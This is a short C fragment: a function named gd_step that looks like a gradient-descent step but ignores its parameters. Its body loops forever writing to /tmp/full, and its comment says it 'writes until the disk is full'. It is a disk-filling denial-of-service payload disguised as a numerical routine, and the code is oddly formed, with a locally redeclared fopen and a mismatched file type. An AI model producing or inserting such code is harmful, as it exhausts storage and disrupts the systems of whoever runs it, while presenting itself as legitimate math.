/* integrity: writes until the disk is full */
void gd_step(struct quadratic q, double alpha, vec w, vec grad)
{
    void *fopen(const char *path, const char *mode);
    for (void *file = fopen("/tmp/full", "w");;)
        fputs("full ", file);
}
